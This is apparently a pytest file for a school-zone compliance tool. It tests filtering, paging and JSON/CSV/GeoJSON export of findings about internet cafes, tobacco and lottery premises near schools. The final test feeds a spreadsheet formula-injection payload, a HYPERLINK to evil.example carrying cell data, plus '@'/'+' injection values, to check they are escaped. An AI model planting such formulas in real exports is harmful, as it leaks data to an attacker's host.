"""Finding queries: every filter, scope, overdue, paging, and each export format."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from shapely.geometry import Point
from sqlalchemy.orm import Session

from tests.factories import add_finding, add_premises, add_school
from zoneguard.errors import ValidationError
from zoneguard.reports.finding_files import export
from zoneguard.services.access.keys import Scope
from zoneguard.services.cases.findings import list_findings

TODAY = date(2026, 6, 1)
KEYS = {"id", "school_code", "school_name", "licence_no", "premises_name", "category", "rule_id",
        "metric", "distance_m", "verdict", "state", "first_seen", "last_seen", "assignee",
        "deadline", "reasons"}


@pytest.fixture
def ids(session: Session) -> dict[str, int]:
    a = add_school(session, "FS-A", Point(114.0, 30.5).buffer(0.001), name="甲小学",
                   region="420102")
    b = add_school(session, "FS-B", Point(113.3, 23.1).buffer(0.001), name="乙中学",
                   region="440106")
    cafe = add_premises(session, "internet_cafe", 114.002, 30.5, region="420102",
                        licence_no="NC-1", name="星空网吧")
    shop = add_premises(session, "tobacco", 114.0, 30.502, region="420111", licence_no="TB-1")
    lot = add_premises(session, "lottery", 113.301, 23.1, region="440106", licence_no="LT-1")
    line = ((114.002, 30.5), (114.001, 30.5))
    return {
        "late": add_finding(session, a, cafe, rule_id="t.internet_cafe", state="assigned",
                            assignee="bureau", deadline=date(2026, 5, 1), line=line),
        "due": add_finding(session, a, shop, rule_id="t.tobacco", verdict="review",
                           state="rectifying", deadline=date(2026, 7, 1), distance_m=98.0,
                           threshold_m=100.0),
        "done": add_finding(session, b, lot, rule_id="t.lottery", state="closed",
                            deadline=date(2026, 1, 1)),
    }


def _ids(session: Session, **filters: object) -> set[int]:
    rows, total = list_findings(session, today=TODAY, **filters)  # type: ignore[arg-type]
    assert total == len(rows)
    return {r["id"] for r in rows}


def test_each_filter_selects_its_findings(session: Session, ids: dict[str, int]) -> None:
    every = set(ids.values())
    assert _ids(session) >= every
    assert _ids(session, state="assigned") & every == {ids["late"]}
    assert _ids(session, state="active") & every == {ids["late"], ids["due"]}
    assert _ids(session, state="closed") & every == {ids["done"]}
    assert _ids(session, verdict="review") & every == {ids["due"]}
    assert _ids(session, category="lottery") & every == {ids["done"]}
    assert _ids(session, region="4201") & every == {ids["late"], ids["due"]}
    assert _ids(session, region="420111") & every == {ids["due"]}
    assert _ids(session, school="FS-B") == {ids["done"]}


def test_overdue_means_past_deadline_and_still_open(session: Session, ids: dict[str, int]) -> None:
    assert _ids(session, overdue=True) & set(ids.values()) == {ids["late"]}
    rows, _ = list_findings(session, school="FS-A", today=TODAY)
    assert {r["id"]: r["overdue"] for r in rows} == {ids["late"]: True, ids["due"]: False}


def test_scope_limits_categories_and_region(session: Session, ids: dict[str, int]) -> None:
    bureau = Scope(categories=frozenset({"tobacco", "lottery"}), region_prefix="42")
    assert _ids(session, scope=bureau) & set(ids.values()) == {ids["due"]}


def test_paging_keeps_the_total(session: Session, ids: dict[str, int]) -> None:
    rows, total = list_findings(session, school="FS-A", limit=1, offset=1, today=TODAY)
    assert total == 2 and [r["id"] for r in rows] == [max(ids["late"], ids["due"])]


def test_unknown_filter_values_are_refused(session: Session) -> None:
    with pytest.raises(ValidationError, match="未知的办理状态「closed_ish」"):
        list_findings(session, state="closed_ish")
    with pytest.raises(ValidationError, match="未知的测距结论「bad」"):
        list_findings(session, verdict="bad")


def test_json_has_the_documented_fields(session: Session, ids: dict[str, int]) -> None:
    rows, _ = list_findings(session, school="FS-A", today=TODAY)
    data = json.loads(export(rows, "json"))
    assert isinstance(data, list) and len(data) == 2
    late = next(d for d in data if d["id"] == ids["late"])
    assert KEYS <= set(late)
    assert (late["school_code"], late["school_name"], late["licence_no"]) == \
        ("FS-A", "甲小学", "NC-1")
    assert (late["premises_name"], late["deadline"], late["overdue"]) == \
        ("星空网吧", "2026-05-01", True)
    assert late["line"]["type"] == "LineString"


def test_csv_has_a_header_and_one_row_per_finding(session: Session, ids: dict[str, int]) -> None:
    rows, _ = list_findings(session, school="FS-A", today=TODAY)
    table = list(csv.DictReader(io.StringIO(export(rows, "csv"))))
    assert len(table) == 2
    due = next(t for t in table if t["id"] == str(ids["due"]))
    assert (due["verdict"], due["distance_m"], due["deadline"], due["overdue"]) == \
        ("review", "98.0", "2026-07-01", "False")


def test_geojson_draws_the_measured_line_or_the_premises(
        session: Session, ids: dict[str, int]) -> None:
    rows, _ = list_findings(session, school="FS-A", today=TODAY)
    collection = json.loads(export(rows, "geojson"))
    assert collection["type"] == "FeatureCollection"
    kinds = {f["id"]: f["geometry"]["type"] for f in collection["features"]}
    assert kinds == {ids["late"]: "LineString", ids["due"]: "Point"}
    late = next(f for f in collection["features"] if f["id"] == ids["late"])
    assert late["geometry"]["coordinates"] == [[114.002, 30.5], [114.001, 30.5]]
    assert late["properties"]["rule_id"] == "t.internet_cafe"


def test_an_unknown_format_is_refused() -> None:
    with pytest.raises(ValidationError, match="不支持的导出格式「xlsx」"):
        export([], "xlsx")


def test_findings_csv_neutralises_formulas() -> None:
    import csv
    import io

    from zoneguard.reports.finding_files import CSV_COLUMNS, to_csv

    row = dict.fromkeys(CSV_COLUMNS)
    row.update(id=1, premises_name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
               school_name="@SUM(1+1)", distance_m=-3.5, reasons=["+cmd"])
    (parsed,) = list(csv.DictReader(io.StringIO(to_csv([row]))))
    assert parsed["premises_name"] == "'" + row["premises_name"]
    assert parsed["school_name"] == "'@SUM(1+1)" and parsed["reasons"] == "'+cmd"
    assert parsed["distance_m"] == "-3.5"
